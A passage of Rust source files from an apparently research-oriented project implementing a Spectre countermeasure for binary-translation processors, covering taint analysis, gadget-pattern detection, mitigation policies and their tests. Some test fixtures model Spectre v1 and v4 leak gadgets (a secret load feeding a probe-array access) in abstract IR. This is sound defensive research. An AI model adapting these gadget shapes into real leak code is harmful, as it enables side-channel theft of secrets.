        assert!(!analysis.is_poisoned(InstId(0)));
        assert!(analysis.poisoned_count() >= 4);
    }

    #[test]
    fn poison_propagates_through_alu_chain() {
        let block = v1_block();
        let graph = DepGraph::build(&block, DfgOptions::aggressive());
        let analysis = PoisonAnalysis::run(&block, &graph);
        // shifted (id 5) and addr2 (id 7) are derived from the secret load.
        assert!(analysis.is_poisoned(InstId(5)));
        assert!(analysis.is_poisoned(InstId(7)));
    }

    #[test]
    fn nothing_is_poisoned_without_speculation() {
        let block = v1_block();
        let graph = DepGraph::build(&block, DfgOptions::no_speculation());
        let analysis = PoisonAnalysis::run(&block, &graph);
        assert_eq!(analysis.poisoned_count(), 0);
        for load in block.loads() {
            assert!(!analysis.is_speculative(load));
        }
    }

    #[test]
    fn speculation_sources_identify_the_branch() {
        let block = v1_block();
        let graph = DepGraph::build(&block, DfgOptions::aggressive());
        let analysis = PoisonAnalysis::run(&block, &graph);
        let exit = block.side_exits()[0];
        let first_load = block.loads()[0];
        assert!(analysis
            .speculation_sources(first_load)
            .iter()
            .any(|s| s.source == exit && s.kind == DepKind::Control));
    }
}
