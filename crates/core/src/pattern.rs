//! Spectre pattern detection (rule 3 of the paper's analysis).

use crate::poison::{PoisonAnalysis, SpeculationSource};
use dbt_ir::{DepGraph, InstId, IrBlock, Operand};

/// A detected Spectre pattern: a speculative memory access whose address
/// depends on a value produced by another speculative load.
///
/// Executing `risky_access` speculatively would encode the (speculatively
/// read) value into the data cache, which a timing probe can later recover.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SpectrePattern {
    /// The memory access that must not be scheduled speculatively.
    pub risky_access: InstId,
    /// The instructions whose ordering constraints were relaxed to make the
    /// risky access speculative (side exits and/or stores). The mitigation
    /// re-inserts dependencies towards these.
    pub speculation_sources: Vec<SpeculationSource>,
    /// The poisoned operand that serves as the address base.
    pub poisoned_address: Operand,
}

/// Detects every Spectre pattern in `block`.
///
/// A pattern is reported for each memory access (load) that is
/// *speculative* (has at least one relaxable incoming control or memory
/// edge) and whose address base is a *poisoned* value.
///
/// # Example
///
/// See the crate-level example, which detects exactly one pattern in a
/// Spectre-v4-shaped block.
pub fn detect_patterns(
    block: &IrBlock,
    graph: &DepGraph,
    analysis: &PoisonAnalysis,
) -> Vec<SpectrePattern> {
    let mut patterns = Vec::new();
    for inst in block.insts() {
        if !inst.op.is_load() {
            continue;
        }
        if !analysis.is_speculative(inst.id) {
            continue;
        }
        let Some(base) = inst.op.address_base() else { continue };
        let address_poisoned = match base {
            Operand::Value(def) => analysis.is_poisoned(def),
            _ => false,
        };
        if !address_poisoned {
            continue;
        }
        let _ = graph; // the graph defined speculative-ness via the analysis
        patterns.push(SpectrePattern {
            risky_access: inst.id,
            speculation_sources: analysis.speculation_sources(inst.id).to_vec(),
            poisoned_address: base,
        });
    }
    patterns
}

#[cfg(test)]
mod tests {
    use super::*;
    use dbt_ir::{BlockKind, DfgOptions, IrOp, MemWidth};
    use dbt_riscv::inst::AluOp;
    use dbt_riscv::{BranchCond, Reg};

    fn v4_block() -> IrBlock {
        // store addrBuf[unknown] ; a = load addrBuf[0] ; b = load buffer[a] ;
        // c = load probe[b << 7] ; halt
        let mut block = IrBlock::new(0, BlockKind::Basic);
        let addr_buf = block.push(IrOp::Const(0x2000), 0, 0);
        block.push(
            IrOp::Store {
                width: MemWidth::DOUBLE,
                value: Operand::Imm(0),
                base: Operand::LiveIn(Reg::A0),
                offset: 0,
            },
            4,
            1,
        );
        let a = block.push(
            IrOp::Load { width: MemWidth::DOUBLE, base: Operand::Value(addr_buf), offset: 0 },
            8,
            2,
        );
        let buffer = block.push(IrOp::Const(0x3000), 12, 3);
        let addr1 = block.push(
            IrOp::Alu { op: AluOp::Add, a: Operand::Value(buffer), b: Operand::Value(a) },
            12,
            3,
        );
        let b_val = block.push(
            IrOp::Load { width: MemWidth::BYTE_U, base: Operand::Value(addr1), offset: 0 },
            16,
            4,
        );
        let shifted = block.push(
            IrOp::Alu { op: AluOp::Sll, a: Operand::Value(b_val), b: Operand::Imm(7) },
            20,
            5,
        );
        let probe = block.push(IrOp::Const(0x8000), 24, 6);
        let addr2 = block.push(
            IrOp::Alu { op: AluOp::Add, a: Operand::Value(probe), b: Operand::Value(shifted) },
            24,
            6,
        );
        block.push(
            IrOp::Load { width: MemWidth::BYTE_U, base: Operand::Value(addr2), offset: 0 },
            28,
            7,
        );
        block.push(IrOp::Halt, 32, 8);
        block
    }

    fn v1_block() -> IrBlock {
        let mut block = IrBlock::new(0, BlockKind::Superblock { merged_blocks: 2 });
        let size = block.push(IrOp::Const(16), 0, 0);
        block.push(
            IrOp::SideExit {
                cond: BranchCond::Geu,
                a: Operand::LiveIn(Reg::A0),
                b: Operand::Value(size),
                target: 0x9000,
            },
            4,
            1,
        );
        let buffer = block.push(IrOp::Const(0x3000), 8, 2);
        let addr1 = block.push(
            IrOp::Alu { op: AluOp::Add, a: Operand::Value(buffer), b: Operand::LiveIn(Reg::A0) },
            8,
            2,
        );
        let secret = block.push(
            IrOp::Load { width: MemWidth::BYTE_U, base: Operand::Value(addr1), offset: 0 },
            12,
            3,
        );
        let probe = block.push(IrOp::Const(0x8000), 16, 4);
        let addr2 = block.push(
            IrOp::Alu { op: AluOp::Add, a: Operand::Value(probe), b: Operand::Value(secret) },
            16,
            4,
        );
        block.push(
            IrOp::Load { width: MemWidth::BYTE_U, base: Operand::Value(addr2), offset: 0 },
            20,
            5,
        );
        block.push(IrOp::Jump { target: 0x24 }, 24, 6);
        block
    }

    #[test]
    fn v4_pattern_is_detected_once() {
        let block = v4_block();
        let graph = DepGraph::build(&block, DfgOptions::aggressive());
        let analysis = PoisonAnalysis::run(&block, &graph);
        let patterns = detect_patterns(&block, &graph, &analysis);
        // Two risky accesses: buffer[a] (poisoned by the addrBuf load) and
        // probe[b<<7] (poisoned transitively).
        assert_eq!(patterns.len(), 2);
        let store = block.stores()[0];
        for p in &patterns {
            assert!(p.speculation_sources.iter().any(|s| s.source == store));
        }
    }

    #[test]
    fn v1_pattern_points_at_probe_load() {
        let block = v1_block();
        let graph = DepGraph::build(&block, DfgOptions::aggressive());
        let analysis = PoisonAnalysis::run(&block, &graph);
        let patterns = detect_patterns(&block, &graph, &analysis);
        assert_eq!(patterns.len(), 1);
        let probe_load = *block.loads().last().unwrap();
        assert_eq!(patterns[0].risky_access, probe_load);
        let exit = block.side_exits()[0];
        assert!(patterns[0].speculation_sources.iter().any(|s| s.source == exit));
    }

    #[test]
    fn no_pattern_without_speculation() {
        for block in [v1_block(), v4_block()] {
            let graph = DepGraph::build(&block, DfgOptions::no_speculation());
            let analysis = PoisonAnalysis::run(&block, &graph);
            assert!(detect_patterns(&block, &graph, &analysis).is_empty());
        }
    }

    #[test]
    fn benign_block_has_no_pattern() {
        // store then independent load with a clean (non-poisoned) address:
        // speculation is allowed and harmless.
        let mut block = IrBlock::new(0, BlockKind::Basic);
        block.push(
            IrOp::Store {
                width: MemWidth::DOUBLE,
                value: Operand::Imm(1),
                base: Operand::LiveIn(Reg::A0),
                offset: 0,
            },
            0,
            0,
        );
        let c = block.push(IrOp::Const(0x4000), 4, 1);
        let load = block.push(
            IrOp::Load { width: MemWidth::DOUBLE, base: Operand::Value(c), offset: 0 },
            4,
            1,
        );
        block.push(IrOp::WriteReg { reg: Reg::A1, value: Operand::Value(load) }, 4, 1);
        block.push(IrOp::Halt, 8, 2);
        let graph = DepGraph::build(&block, DfgOptions::aggressive());
        let analysis = PoisonAnalysis::run(&block, &graph);
        // The load is speculative (may bypass the store) and poisoned …
        assert!(analysis.is_speculative(load));
        assert!(analysis.is_poisoned(load));
        // … but its own address is clean, so there is no leak pattern.
        assert!(detect_patterns(&block, &graph, &analysis).is_empty());
    }
}
