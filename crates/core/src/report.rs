//! Mitigation reports: what the analysis found and what was constrained.

use crate::pattern::SpectrePattern;
use crate::policy::MitigationPolicy;
use std::fmt;

/// Summary of applying a mitigation policy to one IR block.
///
/// Reports are accumulated per translated block by the DBT engine; the
/// benchmark harness uses them to explain *why* the fine-grained approach is
/// cheap (the pattern is rare in ordinary code, and even when it fires only
/// a handful of edges get hardened).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MitigationReport {
    /// The policy that was applied.
    pub policy: MitigationPolicy,
    /// Number of instructions in the analysed block.
    pub block_len: usize,
    /// Number of values the poisoning analysis marked as poisoned.
    pub poisoned_values: usize,
    /// The detected Spectre patterns.
    pub patterns: Vec<SpectrePattern>,
    /// Number of leakage gadgets confirmed by the `spectaint` taint
    /// analysis (only populated under [`MitigationPolicy::Selective`]).
    pub gadgets: usize,
    /// Number of relaxable (speculation) edges that were hardened.
    pub hardened_edges: usize,
    /// Number of relaxable edges remaining after mitigation.
    pub remaining_relaxable_edges: usize,
}

impl MitigationReport {
    /// Returns `true` if the block contained at least one Spectre pattern.
    pub fn has_pattern(&self) -> bool {
        !self.patterns.is_empty()
    }
}

impl fmt::Display for MitigationReport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{}: {} pattern(s), {} poisoned value(s), {} edge(s) hardened, {} speculation edge(s) left",
            self.policy,
            self.patterns.len(),
            self.poisoned_values,
            self.hardened_edges,
            self.remaining_relaxable_edges
        )
    }
}

/// Aggregate of many [`MitigationReport`]s (one per translated block).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct MitigationSummary {
    /// Number of blocks analysed.
    pub blocks: usize,
    /// Number of blocks in which at least one pattern was found.
    pub blocks_with_patterns: usize,
    /// Total number of patterns.
    pub patterns: usize,
    /// Total number of confirmed leakage gadgets (taint analysis).
    pub gadgets: usize,
    /// Total number of edges hardened.
    pub hardened_edges: usize,
}

impl MitigationSummary {
    /// Creates an empty summary.
    pub fn new() -> MitigationSummary {
        MitigationSummary::default()
    }

    /// Folds one block report into the summary.
    pub fn record(&mut self, report: &MitigationReport) {
        self.blocks += 1;
        if report.has_pattern() {
            self.blocks_with_patterns += 1;
        }
        self.patterns += report.patterns.len();
        self.gadgets += report.gadgets;
        self.hardened_edges += report.hardened_edges;
    }
}

impl fmt::Display for MitigationSummary {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{} block(s) analysed, {} with Spectre patterns ({} pattern(s), {} edge(s) hardened)",
            self.blocks, self.blocks_with_patterns, self.patterns, self.hardened_edges
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn dummy_report(patterns: usize, hardened: usize) -> MitigationReport {
        MitigationReport {
            policy: MitigationPolicy::FineGrained,
            block_len: 10,
            poisoned_values: patterns * 2,
            patterns: (0..patterns)
                .map(|i| SpectrePattern {
                    risky_access: dbt_ir::InstId(i),
                    speculation_sources: vec![],
                    poisoned_address: dbt_ir::Operand::Imm(0),
                })
                .collect(),
            gadgets: 0,
            hardened_edges: hardened,
            remaining_relaxable_edges: 3,
        }
    }

    #[test]
    fn summary_accumulates() {
        let mut summary = MitigationSummary::new();
        summary.record(&dummy_report(0, 0));
        summary.record(&dummy_report(2, 3));
        assert_eq!(summary.blocks, 2);
        assert_eq!(summary.blocks_with_patterns, 1);
        assert_eq!(summary.patterns, 2);
        assert_eq!(summary.hardened_edges, 3);
        let text = summary.to_string();
        assert!(text.contains("2 block(s)"));
    }

    #[test]
    fn report_display_mentions_policy() {
        let r = dummy_report(1, 2);
        assert!(r.has_pattern());
        assert!(r.to_string().contains("our-approach"));
    }
}
