//! **GhostBusters** — the Spectre countermeasure for DBT-based processors
//! described in *GhostBusters: Mitigating Spectre Attacks on a DBT-Based
//! Processor* (Simon Rokicki, DATE 2020).
//!
//! DBT-based processors (Transmeta Crusoe, NVidia Denver, Hybrid-DBT) do not
//! speculate in hardware; the software translation layer speculates instead,
//! by hoisting loads above biased branches (trace scheduling) and above
//! stores it cannot disambiguate (Memory Conflict Buffer speculation). Both
//! mechanisms leave secret-dependent lines in the data cache when the
//! speculation is wrong, which a cache side channel turns into a leak —
//! Spectre v1 and v4 analogues.
//!
//! Because the speculation is a *software decision*, the countermeasure is a
//! pure software patch to the DBT engine, applied between dependency-graph
//! construction and instruction scheduling:
//!
//! 1. [`poison`] — a block-local taint analysis marks the values produced by
//!    speculative loads as *poisoned* and propagates poison through data
//!    dependencies;
//! 2. [`pattern`] — a *Spectre pattern* is a speculative memory access whose
//!    address is poisoned: executing it speculatively would encode a
//!    speculatively-read value into cache state;
//! 3. [`mitigation`] — for every detected pattern the scheduler is
//!    constrained, either **fine-grained** (only the risky access loses its
//!    ability to be hoisted — the paper's contribution), with a **fence**
//!    (everything after the pattern waits), or by disabling speculation
//!    altogether (the naive baseline the paper compares against).
//!
//! The analysis never needs to look beyond one IR block: the DBT engine only
//! speculates inside a block, and block-local temporaries die at its end.
//!
//! # Example
//!
//! ```
//! use dbt_ir::{BlockKind, DepGraph, DfgOptions, IrBlock, IrOp, MemWidth, Operand};
//! use dbt_riscv::Reg;
//! use ghostbusters::{apply, MitigationPolicy};
//!
//! // store addrBuf[k] ; a = load addrBuf[0] ; leak = load probe[a]
//! let mut block = IrBlock::new(0x1000, BlockKind::Basic);
//! let addr_buf = block.push(IrOp::Const(0x2000), 0x1000, 0);
//! block.push(IrOp::Store {
//!     width: MemWidth::DOUBLE,
//!     value: Operand::Imm(0),
//!     base: Operand::LiveIn(Reg::A0),
//!     offset: 0,
//! }, 0x1004, 1);
//! let a = block.push(IrOp::Load { width: MemWidth::DOUBLE, base: Operand::Value(addr_buf), offset: 0 }, 0x1008, 2);
//! let probe = block.push(IrOp::Const(0x8000), 0x100c, 3);
//! let addr = block.push(IrOp::Alu {
//!     op: dbt_riscv::inst::AluOp::Add,
//!     a: Operand::Value(probe),
//!     b: Operand::Value(a),
//! }, 0x1010, 4);
//! block.push(IrOp::Load { width: MemWidth::BYTE_U, base: Operand::Value(addr), offset: 0 }, 0x1014, 5);
//! block.push(IrOp::Halt, 0x1018, 6);
//!
//! let mut graph = DepGraph::build(&block, DfgOptions::aggressive());
//! let report = apply(&block, &mut graph, MitigationPolicy::FineGrained);
//! assert_eq!(report.patterns.len(), 1);
//! assert!(report.hardened_edges > 0);
//! ```

pub mod mitigation;
pub mod pattern;
pub mod poison;
pub mod policy;
pub mod report;

pub use mitigation::{apply, apply_with_verdict};
pub use pattern::{detect_patterns, SpectrePattern};
pub use poison::{PoisonAnalysis, SpeculationSource};
pub use policy::MitigationPolicy;
pub use report::MitigationReport;
