//! Applying a mitigation policy to a block's dependency graph.
//!
//! The mitigation never rewrites instructions: it only changes which
//! dependency edges the scheduler is allowed to relax. This mirrors the
//! paper's implementation, where the countermeasure is an update of the DBT
//! engine's scheduling constraints.

use crate::pattern::detect_patterns;
use crate::poison::PoisonAnalysis;
use crate::policy::MitigationPolicy;
use crate::report::MitigationReport;
use dbt_ir::{DepGraph, IrBlock};
use spectaint::LeakageVerdict;

/// Runs the GhostBusters analysis on `block` and constrains `graph`
/// according to `policy`.
///
/// * [`MitigationPolicy::Unprotected`] — analysis only, nothing hardened
///   (the report still lists the patterns, which is how the attack
///   experiments verify that the unsafe configuration is indeed exposed);
/// * [`MitigationPolicy::Selective`] — consult the `spectaint` leakage
///   verdict; on blocks with a confirmed gadget, apply the fine-grained
///   hardening (patterns plus the verdict's transmitters), on leak-free
///   blocks do nothing;
/// * [`MitigationPolicy::FineGrained`] — for every detected pattern, every
///   relaxable edge into the risky access is hardened, re-inserting the
///   dependency on the instruction that causes the speculation;
/// * [`MitigationPolicy::Fence`] — for every detected pattern, every
///   relaxable edge that crosses the risky access's original position is
///   hardened (nothing after the pattern may bypass anything before it);
/// * [`MitigationPolicy::NoSpeculation`] — every relaxable edge in the block
///   is hardened.
///
/// Returns a [`MitigationReport`] describing what was found and constrained.
///
/// The `Selective` arm runs the taint analysis itself; when the caller has
/// already computed the block's verdict (the DBT engine caches it in the
/// translation cache), use [`apply_with_verdict`] to avoid analysing twice.
pub fn apply(block: &IrBlock, graph: &mut DepGraph, policy: MitigationPolicy) -> MitigationReport {
    apply_with_verdict(block, graph, policy, None)
}

/// [`apply`], reusing a precomputed leakage verdict for the `Selective`
/// policy.
///
/// `verdict` must have been computed on this `block`/`graph` pair *before*
/// any hardening (the analysis reads the relaxable edges). It is ignored by
/// every policy other than [`MitigationPolicy::Selective`]; passing `None`
/// makes `Selective` run the analysis itself.
pub fn apply_with_verdict(
    block: &IrBlock,
    graph: &mut DepGraph,
    policy: MitigationPolicy,
    verdict: Option<&LeakageVerdict>,
) -> MitigationReport {
    let analysis = PoisonAnalysis::run(block, graph);
    let patterns = detect_patterns(block, graph, &analysis);
    let mut hardened = 0usize;
    let mut gadgets = 0usize;

    match policy {
        MitigationPolicy::Unprotected => {}
        MitigationPolicy::Selective => {
            let computed;
            let verdict = match verdict {
                Some(v) => v,
                None => {
                    computed = spectaint::analyze(block, graph);
                    &computed
                }
            };
            gadgets = verdict.gadgets.len();
            if !verdict.is_leak_free() {
                // Flagged block: fall back to the fine-grained semantics,
                // constraining the blanket patterns plus every confirmed
                // transmitter (normally a subset of the patterns — the
                // union keeps the fallback at least as strong).
                for pattern in &patterns {
                    hardened += graph.harden_all_preds(pattern.risky_access);
                }
                for transmitter in &verdict.transmitters {
                    hardened += graph.harden_all_preds(*transmitter);
                }
            }
        }
        MitigationPolicy::FineGrained => {
            for pattern in &patterns {
                hardened += graph.harden_all_preds(pattern.risky_access);
            }
        }
        MitigationPolicy::Fence => {
            for pattern in &patterns {
                let fence_seq = block.inst(pattern.risky_access).original_seq;
                let crossing: Vec<(dbt_ir::InstId, dbt_ir::InstId)> = graph
                    .edges()
                    .iter()
                    .filter(|e| {
                        e.relaxable
                            && block.inst(e.from).original_seq < fence_seq
                            && block.inst(e.to).original_seq >= fence_seq
                    })
                    .map(|e| (e.from, e.to))
                    .collect();
                for (from, to) in crossing {
                    hardened += graph.harden(from, to);
                }
            }
        }
        MitigationPolicy::NoSpeculation => {
            for inst in block.insts() {
                hardened += graph.harden_all_preds(inst.id);
            }
        }
    }

    MitigationReport {
        policy,
        block_len: block.len(),
        poisoned_values: analysis.poisoned_count(),
        patterns,
        gadgets,
        hardened_edges: hardened,
        remaining_relaxable_edges: graph.relaxable_edge_count(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dbt_ir::{BlockKind, DfgOptions, InstId, IrOp, MemWidth, Operand};
    use dbt_riscv::inst::AluOp;
    use dbt_riscv::{BranchCond, Reg};

    /// A block with both a benign speculative load and a Spectre pattern.
    fn mixed_block() -> IrBlock {
        let mut b = IrBlock::new(0, BlockKind::Superblock { merged_blocks: 2 });
        // benign: store [a0], load constant address (speculative but clean)
        b.push(
            IrOp::Store {
                width: MemWidth::DOUBLE,
                value: Operand::Imm(7),
                base: Operand::LiveIn(Reg::A0),
                offset: 0,
            },
            0,
            0,
        );
        let clean_addr = b.push(IrOp::Const(0x7000), 4, 1);
        let benign = b.push(
            IrOp::Load { width: MemWidth::DOUBLE, base: Operand::Value(clean_addr), offset: 0 },
            4,
            1,
        );
        b.push(IrOp::WriteReg { reg: Reg::A5, value: Operand::Value(benign) }, 4, 1);
        // risky: bounds-check exit, secret load, probe load
        let size = b.push(IrOp::Const(16), 8, 2);
        b.push(
            IrOp::SideExit {
                cond: BranchCond::Geu,
                a: Operand::LiveIn(Reg::A1),
                b: Operand::Value(size),
                target: 0x9000,
            },
            12,
            3,
        );
        let buffer = b.push(IrOp::Const(0x3000), 16, 4);
        let addr1 = b.push(
            IrOp::Alu { op: AluOp::Add, a: Operand::Value(buffer), b: Operand::LiveIn(Reg::A1) },
            16,
            4,
        );
        let secret = b.push(
            IrOp::Load { width: MemWidth::BYTE_U, base: Operand::Value(addr1), offset: 0 },
            20,
            5,
        );
        let probe = b.push(IrOp::Const(0x8000), 24, 6);
        let addr2 = b.push(
            IrOp::Alu { op: AluOp::Add, a: Operand::Value(probe), b: Operand::Value(secret) },
            24,
            6,
        );
        b.push(
            IrOp::Load { width: MemWidth::BYTE_U, base: Operand::Value(addr2), offset: 0 },
            28,
            7,
        );
        b.push(IrOp::Jump { target: 0x30 }, 32, 8);
        b
    }

    fn risky_load(block: &IrBlock) -> InstId {
        *block.loads().last().unwrap()
    }

    #[test]
    fn unprotected_reports_but_does_not_constrain() {
        let block = mixed_block();
        let mut graph = DepGraph::build(&block, DfgOptions::aggressive());
        let before = graph.relaxable_edge_count();
        let report = apply(&block, &mut graph, MitigationPolicy::Unprotected);
        assert!(report.has_pattern());
        assert_eq!(report.hardened_edges, 0);
        assert_eq!(graph.relaxable_edge_count(), before);
    }

    #[test]
    fn fine_grained_constrains_only_the_risky_access() {
        let block = mixed_block();
        let mut graph = DepGraph::build(&block, DfgOptions::aggressive());
        let report = apply(&block, &mut graph, MitigationPolicy::FineGrained);
        assert!(report.has_pattern());
        assert!(report.hardened_edges > 0);
        let risky = risky_load(&block);
        assert!(!graph.is_speculation_candidate(risky), "risky load must not stay speculative");
        // The benign speculative load keeps its speculation opportunity.
        let benign = block.loads()[0];
        assert!(graph.is_speculation_candidate(benign));
        assert!(report.remaining_relaxable_edges > 0);
    }

    #[test]
    fn fence_is_coarser_than_fine_grained() {
        let block = mixed_block();
        let mut fine = DepGraph::build(&block, DfgOptions::aggressive());
        let fine_report = apply(&block, &mut fine, MitigationPolicy::FineGrained);
        let mut fence = DepGraph::build(&block, DfgOptions::aggressive());
        let fence_report = apply(&block, &mut fence, MitigationPolicy::Fence);
        assert!(fence_report.hardened_edges >= fine_report.hardened_edges);
        assert!(fence.relaxable_edge_count() <= fine.relaxable_edge_count());
        let risky = risky_load(&block);
        assert!(!fence.is_speculation_candidate(risky));
    }

    #[test]
    fn no_speculation_hardens_everything() {
        let block = mixed_block();
        let mut graph = DepGraph::build(&block, DfgOptions::aggressive());
        let report = apply(&block, &mut graph, MitigationPolicy::NoSpeculation);
        assert_eq!(graph.relaxable_edge_count(), 0);
        assert_eq!(report.remaining_relaxable_edges, 0);
    }

    #[test]
    fn clean_block_is_left_untouched_by_fine_grained_and_fence() {
        // A loop-body-like block with loads and stores to different arrays
        // and no Spectre pattern.
        let mut b = IrBlock::new(0, BlockKind::Basic);
        let a_base = b.push(IrOp::Const(0x1000), 0, 0);
        let b_base = b.push(IrOp::Const(0x2000), 0, 0);
        let x = b.push(
            IrOp::Load { width: MemWidth::DOUBLE, base: Operand::Value(a_base), offset: 0 },
            4,
            1,
        );
        let y =
            b.push(IrOp::Alu { op: AluOp::Add, a: Operand::Value(x), b: Operand::Imm(1) }, 8, 2);
        b.push(
            IrOp::Store {
                width: MemWidth::DOUBLE,
                value: Operand::Value(y),
                base: Operand::LiveIn(Reg::A0),
                offset: 0,
            },
            12,
            3,
        );
        let z = b.push(
            IrOp::Load { width: MemWidth::DOUBLE, base: Operand::Value(b_base), offset: 8 },
            16,
            4,
        );
        b.push(IrOp::WriteReg { reg: Reg::A1, value: Operand::Value(z) }, 16, 4);
        b.push(IrOp::Jump { target: 0x20 }, 20, 5);

        for policy in
            [MitigationPolicy::Selective, MitigationPolicy::FineGrained, MitigationPolicy::Fence]
        {
            let mut graph = DepGraph::build(&b, DfgOptions::aggressive());
            let before = graph.relaxable_edge_count();
            let report = apply(&b, &mut graph, policy);
            assert!(!report.has_pattern());
            assert_eq!(report.hardened_edges, 0, "{policy} must not constrain clean code");
            assert_eq!(graph.relaxable_edge_count(), before);
        }
    }

    #[test]
    fn selective_hardens_confirmed_gadgets_like_fine_grained() {
        let block = mixed_block();
        let mut graph = DepGraph::build(&block, DfgOptions::aggressive());
        let report = apply(&block, &mut graph, MitigationPolicy::Selective);
        assert!(report.gadgets > 0, "the bounds-checked double load is a confirmed gadget");
        assert!(report.hardened_edges > 0);
        let risky = risky_load(&block);
        assert!(!graph.is_speculation_candidate(risky));
        // The benign speculative load keeps its speculation opportunity.
        let benign = block.loads()[0];
        assert!(graph.is_speculation_candidate(benign));
    }

    /// A block the blanket analysis flags but the taint analysis clears:
    /// the guard constrains a mode flag, not the accessed index, so the
    /// bypass hands the attacker nothing. `FineGrained` pays here,
    /// `Selective` does not — the whole point of the policy.
    fn spuriously_flagged_block() -> IrBlock {
        let mut b = IrBlock::new(0, BlockKind::Superblock { merged_blocks: 2 });
        b.push(
            IrOp::SideExit {
                cond: BranchCond::Ne,
                a: Operand::LiveIn(Reg::A5),
                b: Operand::Imm(0),
                target: 0x9000,
            },
            0,
            0,
        );
        let table = b.push(IrOp::Const(0x3000), 4, 1);
        let addr1 = b.push(
            IrOp::Alu { op: AluOp::Add, a: Operand::Value(table), b: Operand::LiveIn(Reg::A0) },
            4,
            1,
        );
        let v = b.push(
            IrOp::Load { width: MemWidth::DOUBLE, base: Operand::Value(addr1), offset: 0 },
            8,
            2,
        );
        let lut = b.push(IrOp::Const(0x8000), 12, 3);
        let addr2 = b.push(
            IrOp::Alu { op: AluOp::Add, a: Operand::Value(lut), b: Operand::Value(v) },
            12,
            3,
        );
        let w = b.push(
            IrOp::Load { width: MemWidth::BYTE_U, base: Operand::Value(addr2), offset: 0 },
            16,
            4,
        );
        b.push(IrOp::WriteReg { reg: Reg::A1, value: Operand::Value(w) }, 16, 4);
        b.push(IrOp::Jump { target: 0x20 }, 20, 5);
        b
    }

    #[test]
    fn selective_leaves_spuriously_flagged_blocks_untouched() {
        let block = spuriously_flagged_block();

        let mut fine = DepGraph::build(&block, DfgOptions::aggressive());
        let fine_report = apply(&block, &mut fine, MitigationPolicy::FineGrained);
        assert!(fine_report.has_pattern(), "the blanket analysis must flag this block");
        assert!(fine_report.hardened_edges > 0, "FineGrained pays for the false positive");

        let mut selective = DepGraph::build(&block, DfgOptions::aggressive());
        let before = selective.relaxable_edge_count();
        let selective_report = apply(&block, &mut selective, MitigationPolicy::Selective);
        assert_eq!(selective_report.gadgets, 0, "taint analysis proves the block leak-free");
        assert_eq!(selective_report.hardened_edges, 0);
        assert_eq!(selective.relaxable_edge_count(), before);
    }
}
