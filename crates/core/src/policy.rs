//! Mitigation policies compared in the paper's evaluation.

use std::fmt;

/// Which countermeasure the DBT engine applies before scheduling a block.
///
/// The paper's Figure 4 compares `FineGrained` ("our approach") against
/// `NoSpeculation`; the text additionally evaluates `Fence` and, of course,
/// the `Unprotected` baseline against which slowdowns are reported.
/// `Selective` is this repository's extension beyond the paper: the same
/// fine-grained hardening, but gated on the `spectaint` leakage verdict, so
/// blocks the taint analysis proves leak-free keep their full speculation
/// freedom.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum MitigationPolicy {
    /// No countermeasure: the engine speculates freely (the unsafe
    /// baseline).
    Unprotected,
    /// Verdict-gated hardening: consult the `spectaint` speculative taint
    /// analysis and constrain only blocks with a confirmed leakage gadget
    /// (falling back to [`MitigationPolicy::FineGrained`] semantics there);
    /// leak-free blocks are left untouched.
    Selective,
    /// The paper's contribution: detect Spectre patterns with the poisoning
    /// analysis and constrain only the risky accesses (re-insert the control
    /// dependency between the speculative access and the instruction that
    /// causes the speculation).
    FineGrained,
    /// Detect Spectre patterns and insert a fence at the pattern: nothing
    /// originally after the risky access may be hoisted above anything
    /// originally before it.
    Fence,
    /// Disable both speculation mechanisms entirely (the naive
    /// countermeasure the paper uses as comparison point).
    NoSpeculation,
}

impl MitigationPolicy {
    /// All policies, in the order used by the evaluation harness: from the
    /// unsafe baseline through increasingly blunt countermeasures.
    pub const ALL: [MitigationPolicy; 5] = [
        MitigationPolicy::Unprotected,
        MitigationPolicy::Selective,
        MitigationPolicy::FineGrained,
        MitigationPolicy::Fence,
        MitigationPolicy::NoSpeculation,
    ];

    /// Short label used in benchmark tables.
    pub fn label(self) -> &'static str {
        match self {
            MitigationPolicy::Unprotected => "unsafe",
            MitigationPolicy::Selective => "selective",
            MitigationPolicy::FineGrained => "our-approach",
            MitigationPolicy::Fence => "fence",
            MitigationPolicy::NoSpeculation => "no-speculation",
        }
    }

    /// Whether this policy protects against the Spectre variants studied in
    /// the paper.
    pub fn is_protective(self) -> bool {
        !matches!(self, MitigationPolicy::Unprotected)
    }

    /// Parses a [`MitigationPolicy::label`] back into the policy — the
    /// inverse used wherever policies arrive as data (CLI flags, daemon
    /// requests).
    pub fn from_label(label: &str) -> Option<MitigationPolicy> {
        MitigationPolicy::ALL.into_iter().find(|p| p.label() == label)
    }
}

impl fmt::Display for MitigationPolicy {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.label())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn labels_are_unique() {
        let labels: std::collections::BTreeSet<_> =
            MitigationPolicy::ALL.iter().map(|p| p.label()).collect();
        assert_eq!(labels.len(), MitigationPolicy::ALL.len());
    }

    #[test]
    fn protection_classification() {
        assert!(!MitigationPolicy::Unprotected.is_protective());
        assert!(MitigationPolicy::Selective.is_protective());
        assert!(MitigationPolicy::FineGrained.is_protective());
        assert!(MitigationPolicy::Fence.is_protective());
        assert!(MitigationPolicy::NoSpeculation.is_protective());
    }

    #[test]
    fn display_matches_label() {
        assert_eq!(MitigationPolicy::FineGrained.to_string(), "our-approach");
    }

    #[test]
    fn from_label_inverts_label() {
        for policy in MitigationPolicy::ALL {
            assert_eq!(MitigationPolicy::from_label(policy.label()), Some(policy));
        }
        assert_eq!(MitigationPolicy::from_label("nonsense"), None);
    }
}
