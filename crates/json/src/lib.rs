//! **dbt-json** — a minimal, dependency-free JSON reader (and the matching
//! string escaper) shared by the whole workspace.
//!
//! The emitting side of the repo (lab reports, daemon frames, program
//! images) hand-rolls its JSON for byte stability; this crate is the
//! *reading* side, needed wherever the system accepts JSON it did not
//! produce: the `dbt-serve` daemon parsing request frames, and the
//! `dbt-riscv` program-image codec parsing uploaded guest programs. It
//! parses the full JSON grammar — objects, arrays, strings with escapes
